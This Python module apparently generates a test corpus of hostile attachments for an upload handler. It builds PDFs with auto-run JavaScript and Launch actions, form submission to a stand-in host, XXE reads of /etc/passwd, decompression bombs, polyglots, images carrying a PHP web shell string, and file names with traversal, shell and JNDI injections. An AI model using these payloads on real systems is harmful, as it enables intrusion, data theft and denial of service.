"""Hostile files, made by code: what a sender could join to a message. Names tell what each one tries."""

import struct
import zlib

PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]/Contents 4 0 R/Resources<<>>%s>>"
INK = b"0 0 1 rg 20 20 100 100 re f"


def pdf(catalog: bytes = b"", page: bytes = b"", more: dict[int, bytes] | None = None, content: bytes = INK, head: bytes = b"%PDF-1.7\n", trailer: bytes = b"", tail: bytes = b"") -> bytes:
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>", 2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>", 3: PAGE.replace(b"%s", page),
        4: b"<</Length " + str(len(content)).encode() + b">>stream\n" + content + b"\nendstream", **(more or {}),
    }
    out, places = bytearray(head), {}
    for number, body in objects.items():
        places[number] = len(out)
        out += f"{number} 0 obj".encode() + body + b"endobj\n"
    start, top = len(out), max(objects) + 1
    out += f"xref\n0 {top}\n0000000000 65535 f \n".encode()
    for number in range(1, top):
        out += f"{places.get(number, 0):010d} 00000 {'n' if number in places else 'f'} \n".encode()
    return bytes(out) + f"trailer<</Size {top}/Root 1 0 R".encode() + trailer + f">>\nstartxref\n{start}\n%%EOF\n".encode() + tail


def stream(body: bytes, entries: bytes = b"") -> bytes:
    return b"<<" + entries + b"/Length " + str(len(body)).encode() + b">>stream\n" + body + b"\nendstream"


def active() -> dict[str, bytes]:
    """PDF that do something by themselves: every action at every place one can hang."""
    js = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
    actions = {
        "JavaScript": js, "Launch": b"<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", "Launch-F": b"<</S/Launch/F(/bin/sh)>>", "URI": b"<</S/URI/URI(https://ailleurs.test/)>>",
        "SubmitForm": b"<</S/SubmitForm/F(https://ailleurs.test/)>>", "ImportData": b"<</S/ImportData/F(\\\\\\\\ailleurs\\\\x)>>", "GoToR": b"<</S/GoToR/F(\\\\\\\\ailleurs\\\\x.pdf)/D[0/Fit]>>",
        "GoToE": b"<</S/GoToE/F(x.pdf)/D[0/Fit]>>", "Named": b"<</S/Named/N/Print>>", "Hide": b"<</S/Hide/T(x)>>", "Rendition": b"<</S/Rendition/JS(app.alert\\(1\\))/OP 0>>",
        "Movie": b"<</S/Movie/T(x)>>", "Sound": b"<</S/Sound/Sound 9 0 R>>", "JS-hex": b"<</S/JavaScript/JS<6170702E616C657274283129>>>",
        "JS-nom": b"<</S/J#61vaScript/JS(app.alert\\(1\\))>>", "suite": b"<</S/URI/URI(a:)/Next" + js + b">>", "SetOCGState": b"<</S/SetOCGState/State[/ON]>>", "Thread": b"<</S/Thread/F(x.pdf)>>",
    }
    files = {}
    for name, action in actions.items():
        files[f"pdf-OpenAction-{name}"] = pdf(b"/OpenAction" + action)
        files[f"pdf-page-AA-{name}"] = pdf(page=b"/AA<</O" + action + b"/C" + action + b">>")
        files[f"pdf-lien-{name}"] = pdf(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A" + action + b">>"})
        files[f"pdf-champ-{name}"] = pdf(
            b"/AcroForm<</Fields[5 0 R]/NeedAppearances true>>", b"/Annots[5 0 R]",
            {5: b"<</Type/Annot/Subtype/Widget/FT/Btn/T(x)/Rect[0 0 9 9]/AA<</E" + action + b"/D" + action + b">>>>"})
    for event in (b"WC", b"WS", b"DS", b"WP", b"DP"):
        files[f"pdf-catalogue-AA-{event.decode()}"] = pdf(b"/AA<</" + event + js + b">>")
    files |= {
        "pdf-noms-JavaScript": pdf(b"/Names<</JavaScript<</Names[(x)" + js + b"]>>>>"),
        "pdf-fichier-inclus": pdf(b"/Names<</EmbeddedFiles<</Names[(x.exe)5 0 R]>>>>", more={5: b"<</Type/Filespec/F(x.exe)/EF<</F 6 0 R>>>>", 6: stream(b"MZ\x90\0", b"/Type/EmbeddedFile")}),
        "pdf-annotation-fichier": pdf(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS 6 0 R>>", 6: b"<</Type/Filespec/F(x.js)/EF<</F 7 0 R>>>>", 7: stream(b"x", b"/Type/EmbeddedFile")}),
        "pdf-XFA": pdf(b"/AcroForm<</XFA 5 0 R/Fields[]>>", more={5: stream(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><script>app.alert(1)</script></xdp:xdp>")}),
        "pdf-XFA-XXE": pdf(b"/AcroForm<</XFA 5 0 R>>", more={5: stream(b"<!DOCTYPE x[<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>")}),
        "pdf-RichMedia": pdf(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]/RichMediaContent<</Assets<</Names[(x.swf)6 0 R]>>>>>>", 6: b"<</Type/Filespec/F(x.swf)>>"}),
        "pdf-3D": pdf(page=b"/Annots[5 0 R]", more={5: b"<</Type/Annot/Subtype/3D/Rect[0 0 9 9]/3DD 6 0 R>>", 6: stream(b"x", b"/Type/3D/Subtype/U3D/OnInstantiate 7 0 R"), 7: stream(b"app.alert(1)")}),
        "pdf-metadonnees": pdf(b"/Metadata 5 0 R", more={5: stream(b"<x:xmpmeta xmlns:x='adobe:ns:meta/'><dc:creator>Jean Espion</dc:creator></x:xmpmeta>", b"/Type/Metadata/Subtype/XML")}),
        "pdf-police-type3-JS": pdf(b"/OpenAction 5 0 R", more={5: js}),
        "pdf-image-distante": pdf(page=b"/Resources<</XObject<</I 5 0 R>>>>", content=b"/I Do", more={5: stream(b"", b"/Subtype/Image/Width 1/Height 1/F(https://ailleurs.test/x)/FFilter/DCTDecode")}),
        "pdf-postscript": pdf(page=b"/Resources<</XObject<</P 5 0 R>>>>", content=b"/P Do", more={5: stream(b"(%pipe%id) (r) file", b"/Type/XObject/Subtype/PS")}),
        "pdf-objets-caches": pdf(b"/OpenAction 6 0 R", more={5: stream(zlib.compress(b"6 0 " + js), b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode")}),
        "pdf-deuxieme-revision": pdf() + b"1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction" + js + b">>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
    }
    return files


def heavy() -> dict[str, bytes]:
    """Small files that ask for much: bombs, loops, floods."""
    bomb = zlib.compress(bytes(60_000_000), 9)
    nested = zlib.compress(zlib.compress(zlib.compress(bytes(30_000_000), 9), 9), 9)
    files = {
        "pdf-bombe": pdf(more={4: stream(bomb, b"/Filter/FlateDecode")}), "pdf-bombe-emboitee": pdf(more={4: stream(nested, b"/Filter[/FlateDecode/FlateDecode/FlateDecode]")}),
        "pdf-bombe-image": pdf(page=b"/Resources<</XObject<</I 5 0 R>>>>", content=b"/I Do", more={5: stream(bomb, b"/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceGray/Filter/FlateDecode")}),
        "pdf-runlength": pdf(more={4: stream(b"\x81A" * 400_000 + b"\x80", b"/Filter/RunLengthDecode")}), "pdf-page-immense": pdf().replace(b"[0 0 200 200]", b"[0 0 9999999 9999999]"),
        "pdf-page-nulle": pdf().replace(b"[0 0 200 200]", b"[0 0 0 0]"), "pdf-page-negative": pdf().replace(b"[0 0 200 200]", b"[9 9 -9e9 -9e9]"), "pdf-page-NaN": pdf().replace(b"[0 0 200 200]", b"[0 0 1e999 1]"),
        "pdf-pages-en-boucle": pdf().replace(b"/Kids[3 0 R]", b"/Kids[2 0 R]"), "pdf-parent-en-boucle": pdf(more={2: b"<</Type/Pages/Kids[3 0 R]/Count 1/Parent 2 0 R>>"}),
        "pdf-longueur-en-boucle": pdf(more={4: b"<</Length 4 0 R>>stream\nq\nendstream"}), "pdf-xref-en-boucle": pdf(trailer=b"/Prev 9"), "pdf-prev-sur-soi": pdf().replace(b"startxref\n", b"startxref\n9"),
        "pdf-un-million-de-pages": pdf().replace(b"/Count 1", b"/Count 1000000"), "pdf-mille-fois-la-page": pdf().replace(b"/Kids[3 0 R]/Count 1", b"/Kids[" + b"3 0 R " * 3000 + b"]/Count 3000"),
        "pdf-motif-recursif": pdf(page=b"/Resources<</XObject<</F 5 0 R>>>>", content=b"/F Do", more={5: stream(b"/F Do /F Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F 5 0 R>>>>")}),
        "pdf-formes-en-cascade": pdf(page=b"/Resources<</XObject<</F 5 0 R>>>>", content=b"/F Do", more={n: stream(b"/F Do " * 10, f"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F {n + 1} 0 R>>>>".encode()) for n in range(5, 17)}),
        "pdf-q-profond": pdf(content=b"q " * 500_000), "pdf-tableau-profond": pdf(page=b"/X" + b"[" * 100_000 + b"]" * 100_000), "pdf-dictionnaire-profond": pdf(page=b"/X" + b"<</A" * 20_000 + b" 1" + b">>" * 20_000),
        "pdf-pointilles": pdf(content=b"[0.00001] 0 d 0 0 m 10000 10000 l S"), "pdf-jeton-immense": pdf(page=b"/X(" + b"A" * 2_000_000 + b")"), "pdf-nombre-immense": pdf(content=b"9" * 100_000 + b" w 0 0 m 9 9 l S"),
        "png-60000x60000": png(60_000, 60_000), "png-2147483647": png(2_147_483_647, 2_147_483_647), "png-1x60000000": png(1, 2_000_000_000), "png-zero": png(0, 0),
        "png-zTXt-bombe": png(1, 1, more=chunk(b"zTXt", b"x\0\0" + bomb)), "png-iCCP-bombe": png(1, 1, more=chunk(b"iCCP", b"x\0\0" + bomb)), "png-IDAT-bombe": png(1, 1, data=bomb),
        "png-entrelace": png(7_000, 7_000, interlace=1), "png-16-bits": png(60_000_001, 1, depth=16), "jpeg-65535": jpeg(65_535, 65_535), "jpeg-zero": jpeg(0, 0), "jpeg-sans-fin": jpeg(10, 10)[:-2] + b"\xff\xfe\xff\xff",
    }
    return files


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, more: bytes = b"", data: bytes | None = None, depth: int = 8, interlace: int = 0) -> bytes:
    rows = zlib.compress(b"".join(b"\0" + b"\x40" * width for _ in range(height)) if 0 < width * height < 10_000 else b"\0\0")
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, 0, 0, 0, interlace)) + more
            + chunk(b"IDAT", rows if data is None else data) + chunk(b"IEND", b""))


def jpeg(width: int, height: int, segments: bytes = b"", scan: bytes = b"\0\x3f\x00") -> bytes:
    frame = struct.pack(">HBHHB", 11, 8, height, width, 1) + b"\x01\x11\x00"
    return b"\xff\xd8" + segments + b"\xff\xc0" + frame + b"\xff\xda\x00\x08\x01\x01\x00\x00" + scan + b"\x12\x34\xff\xd9"


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(data) + 2) + data


GPS = b"Exif\0\0MM\0*\0\0\0\x08\0\x01\x88\x25\0\x04\0\0\0\x01\0\0\0\x1aGPS-48.8566-2.3522-CANARI"
SCRIPT = b"<script>alert(1)</script><?php system($_GET[0]); ?>"


def pictures() -> dict[str, bytes]:
    """Pictures that carry something beside the picture."""
    return {
        "jpeg-gps": jpeg(8, 8, segment(0xE1, GPS)), "jpeg-xmp": jpeg(8, 8, segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SCRIPT)), "jpeg-commentaire": jpeg(8, 8, segment(0xFE, SCRIPT)),
        "jpeg-app13": jpeg(8, 8, segment(0xED, b"Photoshop 3.0\0" + SCRIPT)), "jpeg-vignette": jpeg(8, 8, segment(0xE0, b"JFXX\0\x10" + SCRIPT)), "jpeg-queue": jpeg(8, 8) + SCRIPT + b"PK\x03\x04",
        "jpeg-longueur-fausse": jpeg(8, 8, b"\xff\xe1\xff\xff" + GPS), "jpeg-longueur-nulle": jpeg(8, 8, b"\xff\xe1\0\0"), "jpeg-coupe": jpeg(8, 8)[:20],
        "png-tEXt": png(8, 8, chunk(b"tEXt", b"Comment\0" + SCRIPT)), "png-iTXt": png(8, 8, chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SCRIPT)), "png-eXIf": png(8, 8, chunk(b"eXIf", GPS[6:])),
        "png-prive": png(8, 8, chunk(b"prVt", SCRIPT)), "png-queue": png(8, 8) + SCRIPT + b"PK\x03\x04", "png-CRC-faux": png(8, 8)[:-6] + b"\0\0\0\0\0\0", "png-longueur-fausse": png(8, 8).replace(b"\0\0\0\x0dIHDR", b"\xff\xff\xff\xffIHDR"),
        "png-sans-fin": png(8, 8)[:-12], "png-sans-IHDR": b"\x89PNG\r\n\x1a\n" + chunk(b"IEND", b""), "png-deux-IHDR": png(8, 8, chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 0, 0, 0, 0))),
        "png-anime": png(8, 8, chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))),
    }


def impostors() -> dict[str, bytes]:
    """What is not what it says: other types, two types at once, nothing at all."""
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    files = {
        "html": html, "svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "xml-xxe": b"<?xml version='1.0'?><!DOCTYPE x[<!ENTITY y SYSTEM 'file:///etc/passwd'>]><x>&y;</x>",
        "xml-rires": b"<!DOCTYPE l[<!ENTITY a 'lol'>" + b"".join(b"<!ENTITY a%d '%s'>" % (i, b"&a%d;" % (i - 1) * 10 if i > 1 else b"&a;" * 10) for i in range(1, 10)) + b"]><l>&a9;</l>",
        "exe": b"MZ\x90\0" + bytes(200), "elf": b"\x7fELF\x02\x01\x01" + bytes(200), "zip": b"PK\x03\x04" + bytes(60), "gzip": b"\x1f\x8b\x08" + bytes(60), "rar": b"Rar!\x1a\x07\0" + bytes(60), "7z": b"7z\xbc\xaf\x27\x1c" + bytes(60),
        "ole": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "gif": b"GIF89a" + bytes(60), "bmp": b"BM" + bytes(60), "tiff": b"II*\0" + bytes(60), "webp": b"RIFF\x20\0\0\0WEBPVP8 " + bytes(60), "ico": b"\0\0\x01\0" + bytes(60),
        "heic": b"\0\0\0\x18ftypheic" + bytes(60), "mp4": b"\0\0\0\x18ftypmp42" + bytes(60), "class": b"\xca\xfe\xba\xbe" + bytes(60), "script": b"#!/bin/sh\nid\n", "bat": b"@echo off\r\ncalc\r\n", "lnk": b"L\0\0\0\x01\x14\x02\0" + bytes(60),
        "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (r) file\n", "eps": b"\xc5\xd0\xd3\xc6" + bytes(60), "rtf": b"{\\rtf1{\\object\\objocx}}", "eml": b"From: x\r\n\r\nx", "json": b'{"a": 1}', "texte": b"bonjour", "nuls": bytes(1000),
        "un-octet": b"%", "debut-seul": b"%PDF-", "debut-png-seul": b"\x89PNG\r\n\x1a\n", "debut-jpeg-seul": b"\xff\xd8\xff", "bom-pdf": b"\xef\xbb\xbf" + pdf(), "espace-pdf": b"  " + pdf(), "pdf-minuscule": pdf().replace(b"%PDF", b"%pdf"),
        "html-puis-pdf": html + pdf(), "zip-puis-pdf": b"PK\x03\x04" + bytes(26) + pdf(), "gif-puis-pdf": b"GIF89a" + pdf(), "pdf-puis-html": pdf(tail=html), "pdf-puis-zip": pdf(tail=b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18)),
        "pdf-puis-exe": pdf(tail=b"MZ" + bytes(100)), "pdf-tete-html": pdf(head=b"%PDF-1.7<script>alert(1)</script>\n"), "pdf-et-jpeg": jpeg(8, 8, segment(0xFE, pdf())), "png-et-html": png(8, 8, chunk(b"tEXt", b"x\0" + html)),
        "pdf-coupe": pdf()[:300], "pdf-sans-xref": pdf().split(b"xref")[0] + b"%%EOF", "pdf-sans-racine": pdf().replace(b"/Root 1 0 R", b""), "pdf-racine-fausse": pdf().replace(b"/Root 1 0 R", b"/Root 99 0 R"), "pdf-vide": b"%PDF-1.7\n%%EOF\n",
        "pdf-chiffre": pdf(more={9: b"<</Filter/Standard/V 1/R 2/O(" + b"o" * 32 + b")/U(" + b"u" * 32 + b")/P -4>>"}, trailer=b"/Encrypt 9 0 R/ID[<00><00>]"), "pdf-filtre-inconnu": pdf(more={4: stream(b"x", b"/Filter/ASCIIHexDecode/Crypt")}),
        "pdf-deux-fois": pdf() + pdf(b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>"), "pdf-commentaires": pdf(head=b"%PDF-1.7\n" + b"%<script>\n" * 2000),
        "pdf-octets-au-hasard": b"%PDF-1.7\n" + bytes(range(256)) * 40, "pdf-version-folle": pdf(head=b"%PDF-9999999999\n"),
    }
    return files


NAMES = [
    "../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/passwd", "C:\\x.pdf", "\\\\ailleurs\\x.pdf", "x.pdf\0.exe", "%2e%2e%2fx.pdf", "%00.pdf", "CON", "NUL.pdf", "aux.png", "x" * 4096 + ".pdf", "\u202efdp.exe", "\u200b.pdf",
    'a"; filename="b.exe', "a'; rm -rf /.pdf", "a\r\nSet-Cookie: x=y", "a\nX: y.pdf", "<script>alert(1)</script>.pdf", "=cmd|' /C calc'!A0.pdf", "{{7*7}}.pdf", "${jndi:ldap://x}.pdf", "$(id).pdf", "`id`.pdf", "|id", "-rf", ".", "..", ".htaccess",
    "", " ", "é" * 300 + ".pdf", "😀.pdf", "a.pdf.exe", "a.exe", "x;y.pdf", "x,y.pdf", "x%.pdf", "x?y=z.pdf", "x#y.pdf", "a\tb.pdf", "A\u0301.pdf", "\ufeffx.pdf", "\x7f.pdf",
]
